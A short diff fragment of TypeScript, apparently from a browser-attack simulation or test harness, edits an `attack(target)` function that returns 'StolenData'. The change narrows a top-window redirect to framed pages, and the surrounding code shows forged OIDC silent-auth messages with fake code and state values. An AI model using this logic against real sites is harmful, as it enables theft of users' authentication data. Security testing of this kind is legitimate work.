@@ -139,7 +139,8 @@ async function attack(target: string): Promise<StolenData> {
     return found
   })
   await attempt('the window of the console', () => {
-    if (top !== null) top.location.href = `${self.origin}/moved`
+    // In a window of its own, the page would only move itself, and take its findings with it.
+    if (top !== null && top !== self) top.location.href = `${self.origin}/moved`
   })
   for (const message of [
     { source: 'oidc-client', url: `${target}/auth/silent?code=forged&state=forged`, keepOpen: false },
